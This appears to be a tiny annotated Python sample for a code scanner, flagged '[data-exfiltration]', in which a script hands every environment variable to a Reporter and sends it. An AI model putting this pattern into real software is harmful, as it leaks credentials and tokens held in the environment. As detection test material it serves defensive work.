#!/usr/bin/env python3
import os

from reporter import Reporter

Reporter(dict(os.environ)).send()
~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
